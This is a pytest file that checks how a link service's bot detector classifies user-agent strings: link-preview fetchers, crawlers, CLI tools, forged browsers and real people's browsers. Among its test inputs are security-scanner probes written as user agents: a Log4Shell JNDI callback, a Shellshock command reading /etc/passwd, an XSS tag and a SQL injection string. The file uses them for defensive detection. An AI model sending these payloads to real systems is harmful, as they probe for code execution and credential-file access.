"""Bot verdicts, class by class: the kind and the reason each kind of client gets, the
in-app browsers and their preview fetchers of bench/corpus/bots/apps.jsonl, and the reason
reaching the click row and the per-reason counts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from consumer.enrich import Enricher
from smartlinks.bots.bots import BOT_KINDS, BOT_REASONS, BotDetector
from tests.consumer.conftest import CHROME, MakeEvent

APPS: list[dict[str, Any]] = [
    json.loads(line)
    for line in (Path(__file__).parents[2] / "bench/corpus/bots/apps.jsonl").read_text().splitlines()
]


def _app_id(case: dict[str, Any]) -> str:
    return f"{case['app']}:{case['label']}:{case['ua'][:50]!r}"


@pytest.mark.parametrize("case", [c for c in APPS if c["label"] == "person"], ids=_app_id)
def test_in_app_browsers_are_people(case: dict[str, Any]) -> None:
    assert BotDetector().verdict("GET", case["ua"]) == ("", "")


@pytest.mark.parametrize("case", [c for c in APPS if c["label"] == "bot"], ids=_app_id)
def test_their_link_preview_fetchers_are_bots(case: dict[str, Any]) -> None:
    assert BotDetector().verdict("GET", case["ua"]).kind in ("preview", "crawler")


def test_every_app_is_covered_both_ways() -> None:
    apps = {"whatsapp", "instagram", "facebook", "tiktok", "snapchat", "line", "telegram", "linkedin", "x"}
    apps.add("google_app")
    assert {c["app"] for c in APPS if c["label"] == "person"} == apps
    assert {c["app"] for c in APPS if c["label"] == "bot"} == apps


@pytest.mark.parametrize(
    ("ua", "kind", "reason"),
    [
        # Link-preview fetchers.
        ("WhatsApp/2.23.20.0 A", "preview", "preview"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview", "preview"),
        ("TelegramBot (like TwitterBot)", "preview", "preview"),
        (
            "Mozilla/5.0 (compatible; Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots)",
            "preview",
            "preview",
        ),
        # CDN and proxy fetchers.
        ("Amazon CloudFront", "crawler", "crawler_list"),
        ("Cloudflare-Traffic-Manager/1.0", "crawler", "crawler_list"),
        # Site monitors.
        ("Datadog Agent/7.69.2", "crawler", "crawler_list"),
        ("UptimeRobot/2.0", "crawler", "crawlerdetect"),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "crawler", "crawlerdetect"),
        # SEO and AI crawlers, short product tokens among them.
        ("Anomura/1.2", "crawler", "crawler_list"),
        ("GPTBot/1.0", "crawler", "crawlerdetect"),
        ("ClaudeBot/1.0", "crawler", "crawlerdetect"),
        ("AhrefsBot/7.0", "crawler", "crawlerdetect"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
            " Chrome/116.0.1938.76 Safari/537.36",
            "crawler",
            "crawlerdetect",
        ),
        # Imitating a browser in a way no browser writes, named by no list.
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Acme-Verifier)"
            " Chrome/120.0.0.0 Safari/537.36",
            "automated",
            "forged_browser",
        ),
        # A browser's user agent with the crawler's own name added: its web address, a
        # product named for an automated role, an unreleased build.
        (f"{CHROME} (https://research.example.edu/web-study)", "automated", "forged_browser"),
        (f"{CHROME} (audit.example.io)", "automated", "forged_browser"),
        (f"{CHROME} (via edge.example.net relay)", "automated", "forged_browser"),
        (f"{CHROME} SiteDiagnostics/1.0", "automated", "forged_browser"),
        (f"{CHROME} AcmeAgent", "automated", "forged_browser"),
        (f"{CHROME} LeadProspector/0.3", "automated", "forged_browser"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) AcmeInspector/2.1"
            " Chrome/124.0.0.0 Safari/537.36",
            "automated",
            "forged_browser",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Harvest/1.4.0-SNAPSHOT",
            "automated",
            "forged_browser",
        ),
        # A crawler's contact address with its "+", whatever the rest looks like.
        ("Mozilla/5.0 (compatible; acmeseo/0.1; Linux; +ops@acme.example)", "automated", "forged_browser"),
        # Outlook rendering a message fetches what it shows, a click of no one's; Office's
        # own HTTP clients other than its link lookup are the lists' to decide.
        (
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; "
            "Microsoft Outlook 16.0.4266; ms-office; MSOffice 16)",
            "crawler",
            "crawlerdetect",
        ),
        ("Microsoft Office/16.0 (Microsoft Outlook 16.0.10730; Pro)", "crawler", "crawlerdetect"),
        ("Microsoft Office Word 2014 (16.0.9226) Windows NT 10.0", "crawler", "crawlerdetect"),
        # Through a translation proxy, what the proxy forwards decides: here a crawler.
        (
            "Googlebot/2.1 (+http://www.google.com/bot.html) (via translate.google.com)",
            "crawler",
            "crawlerdetect",
        ),
        # "(via" and a crawler's own web address is no proxy's signature.
        (
            "Mozilla/5.0 (Android 10; Mobile; rv:122.0) Gecko/122.0 Firefox/122.0 TinEye/1.0 (via http://www.tineye.com/)",
            "crawler",
            "crawlerdetect",
        ),
        # The Perl library stays a script, even behind a browser's name.
        ("libwww-perl/6.72", "cli", "cli"),
        ("Lynx/2.8.9 libwww-perl/6.0", "crawler", "crawlerdetect"),
        # W3C's libwww is no pass for a robot built on it, nor for the bare library.
        ("W3CRobot/5.4.0 libwww/5.4.0", "crawler", "crawlerdetect"),
        ("libwww/5.4.0", "automated", "not_browser"),
        # A text browser's name among a product's words, or W3C's name in a Perl module, is
        # no browser of its own.
        ("IDG Twitter Links Resolver", "crawler", "crawlerdetect"),
        ("WWW::Mechanize/1.73", "crawler", "crawlerdetect"),
        # App-association fetchers (apple-app-site-association, Digital Asset Links).
        ("AASA-Bot/1.0.0", "crawler", "crawlerdetect"),
        ("com.apple.swcd (unknown version) CFNetwork/1220.1 Darwin/20.3.0", "crawler", "crawlerdetect"),
        # Injection probes of security scanners.
        ("${jndi:ldap://${hostName}.useragent.example.oast.fun}", "probe", "probe"),
        ("() { :; }; /bin/bash -c 'cat /etc/passwd'", "probe", "probe"),
        ("<script>alert(1)</script>", "probe", "probe"),
        ("' OR 1=1 --", "probe", "probe"),
        # HTTP libraries and command-line tools.
        ("curl/8.4.0", "cli", "cli"),
        ("python-requests/2.31.0", "cli", "cli"),
        ("Go-http-client/2.0", "cli", "cli"),
        ("okhttp/4.12.0", "cli", "cli"),
        # Programs on the Java runtime, which they name with its version wherever they put it.
        ("Mozilla/4.0 (Windows 10 10.0) Java/1.8.0_202", "cli", "cli"),
        (
            "p2/1.1.300.v20161004-0244 (Java 1.8.0_131-b11 Oracle Corporation; Linux 4.10.0 x86-64; en_US)"
            " org.eclipse.epp.package.java.product/4.7.0",
            "cli",
            "cli",
        ),
        ("Acme-Updater/2.0 (Java pxa6480sr2-20151023_01 (SR2) IBM Corporation; Linux 3.10.0)", "cli", "cli"),
        # Feed readers and media frameworks.
        ("Akregator/4.12.3; syndication SUSE", "automated", "feed_media"),
        (
            "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4 like Mac OS X; en_us)",
            "automated",
            "feed_media",
        ),
        # Custom clients: nothing a person holds is shaped like these.
        ("MyCompanyCRM/3.1", "automated", "not_browser"),
        ("acme-sync", "automated", "not_browser"),
        ("Mozilla/5.0", "automated", "not_browser"),
        # Empty user agents and HEAD requests.
        ("", "empty_ua", "empty_ua"),
    ],
)
def test_kind_and_reason(ua: str, kind: str, reason: str) -> None:
    assert BotDetector().verdict("GET", ua) == (kind, reason)
    assert kind in BOT_KINDS and reason in BOT_REASONS


@pytest.mark.parametrize(
    "ua",
    [
        CHROME,
        # Devices whose maker put "bot" in the model name: the crawler lists are asked
        # without the model.
        "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/87.0.4280.101 Mobile Safari/537.36",
        # Chromium's network stack in a TV browser: crawlerdetect's "Cron" would match.
        "com.tcl.browser/660067 (Linux; U; Android 12; tr_TR; Chromecast; Build/STTK.230808.004; "
        "Cronet/114.0.5735.33)",
        # Not the strict grammar, but browser-shaped: an old phone, Android's own client.
        "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1",
        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240305.019)",
        # Browsers of their own, several built on W3C's libwww, which crawlerdetect takes
        # for libwww-perl, or sharing a name with a crawler.
        "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
        "ELinks/0.13.2 (textmode; Linux 6.1 x86_64; 200x50-2)",
        "Links (2.14; Linux 4.15.0-20-generic x86_64; GNU C 7.3; text)",
        "w3m/0.5.3",
        "NCSA_Mosaic/2.0 (Windows 3.1)",
        "Amaya/11.4.4 libwww/5.4.2",
        "AmigaVoyager/3.4.4 (AmigaOS/MC680x0)",
        "Mozilla/4.7 (compatible; OffByOne; Windows 98) Webster Pro V3.2",
        "Mozilla/5.0 (PalmOS; U; WebPro/3.5; en)",
        # Netscape's own platforms; Internet Explorer with what toolbars and agents added.
        "Mozilla/4.7 [en] (Win95; U)",
        "Mozilla/4.08 [en] (WinNT; U)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Mozilla/4.0 (compatible; MSIE 6.0; "
        "Windows NT 5.1; SV1) ;  Embedded Web Browser from: http://www.example.com/; .NET CLR 2.0.50727)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 2.0.50727; Acme Agent)",
        # Toolbars that crawlerdetect lists, in a person's Internet Explorer and Firefox.
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; PeoplePal 7.3; .NET CLR 2.0.50727)",
        "Mozilla/5.0 (Windows; U; Windows NT 6.0; en-US; rv:1.9.2.12) Gecko/20101026 Ant.com Toolbar 2.0.1"
        " Firefox/3.6.12",
        # The Seznam portal's browser, not its crawler.
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Seznam.cz/5.2.1"
        " Chrome/96.0.4664.110 Safari/537.36",
        # Japanese carriers' phones, and a J2ME phone's profile, which names no Java runtime.
        "Mozilla/4.08 (N905imyu_W;FOMA;c500;TB)",
        "SoftBank/1.0/820SC/SCJ001 Flash/Flash-Lite/2.0",
        "Mozilla/3.0(DDIPOCKET;JRC/AH-J3001V,AH-J3002V/1.0/0100/c50)CNF/2.0",
        "Nokia301/2.0 (09.04) Profile/MIDP-2.1 Configuration/CLDC-1.1 (Java; U; MIDP-2.0; vi; Nokia301)"
        " UCPro/9.4.1.377 Mobile",
        # A university's app id is reverse DNS, no web address.
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        " Mobile/15E148 KurogoVersion/2.6.10 (Kurogo iOS) KurogoAppVersion/5.3 (edu.example.campus)",
        # Any product built on W3C's libwww, named in the list above or not.
        "Spyglass_Mosaic/2.1 libwww/2.15_Spyglass",
        "CERN-LineMode/2.15 libwww/2.17b3",
        "Acme-Browser/0.9 libwww/5.4.0",
        "edbrowse/3.7.7",
        "Mozilla/3.0 (compatible; NetPositive/2.2)",
        # A maker's free text that crawler lists take for a crawler's token: an Android
        # model in Android's own client, a TV maker in the HbbTV device comment.
        "Dalvik/2.1.0 (Linux; U; Android 11; Speedy Tab 10 Build/RP1A.201005.001)",
        "Mozilla/5.0 (Linux; Android 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 "
        "Safari/537.36 HbbTV/1.6.1 (+DRM; ACME/BOTECH; X500; 1.2.3;)",
        # Web-view libraries and in-app tokens near the automated-role words and tokens.
        "Mozilla/5.0 (Linux; Android 12; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
        "Mobile Safari/537.36 AgentWeb/4.1.3 UCBrowser/11.6.4.950",
        "Mozilla/5.0 (Linux; Android 12; MagentaTV Box Build/STTC.220803.001; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/133.0.6943.121 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 10; zh-CN; V2001A Build/QP1A) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/76.0 Mobile Safari/537.36 baiduboxapp/13.0.0.11/A95B2008/1",
        # A TV's reverse-DNS app id is no web address.
        "Mozilla/5.0 (X11;Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.75 "
        "Safari/537.36 FVC/8.0 (Acme; com.acme-tech.TV231;)",
        # Word's and Excel's link lookup: a person clicked a link in a document, and Office
        # fetches it, follows the redirect and gives the browser the destination. The
        # click's only request to the short link.
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64; Trident/7.0; SLCC2; InfoPath.3; "
        "ms-office)",
        # A person reading through a translation or document proxy, which forwards their
        # browser's user agent and names itself.
        "Mozilla/5.0 (Windows NT 6.1; rv:13.0) Gecko/20100101 Firefox/13.0,gzip(gfe) "
        "(via translate.google.com)",
        f"{CHROME} (via translate.google.com)",
        "Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US; rv:1.9.0.8) Gecko/2009032609 "
        "Firefox/3.0.8,gzip(gfe) "
        "(via docs.google.com/viewer)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322) "
        "(via babelfish.yahoo.com)",
        # A media framework inside a browser's user agent is an app's web view.
        "Mozilla/5.0 (Linux; Android 9; AFTKAUK001 Build/PS7681.4384N; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.248 Mobile Safari/537.36/8.5.0 "
        "(Linux;Android 9) ExoPlayerLib/2.6.1",
    ],
)
def test_people(ua: str) -> None:
    assert BotDetector().verdict("GET", ua) == ("", "")


def test_a_device_model_naming_automation_still_counts() -> None:
    seznam = (
        "Mozilla/5.0 (Linux; U; Android 4.1.2; cs-cz; Seznam screenshot-generator Build/Q3) "
        "AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30"
    )
    assert BotDetector().verdict("GET", seznam) == ("crawler", "crawlerdetect")


def test_head_reason() -> None:
    assert BotDetector().verdict("HEAD", CHROME) == ("head", "head")


def test_reasons_are_counted_per_request_cached_or_not() -> None:
    detector = BotDetector()
    for _ in range(3):
        detector.verdict("GET", "curl/8.4.0")
        detector.verdict("GET", CHROME)
    detector.verdict("HEAD", CHROME)
    assert set(detector.reasons) == set(BOT_REASONS)
    assert {reason: count for reason, count in detector.reasons.items() if count} == {"cli": 3, "head": 1}


def test_the_click_row_carries_the_reason(enricher: Enricher, make_event: MakeEvent) -> None:
    probe = enricher.enrich(make_event(user_agent="${jndi:ldap://x.oast.fun/a}"))
    assert (probe.is_bot, probe.bot_kind, probe.bot_reason) == (True, "probe", "probe")
    person = enricher.enrich(make_event(user_agent=CHROME))
    assert (person.is_bot, person.bot_kind, person.bot_reason) == (False, "", "")
    assert enricher.bots.reasons["probe"] == 1
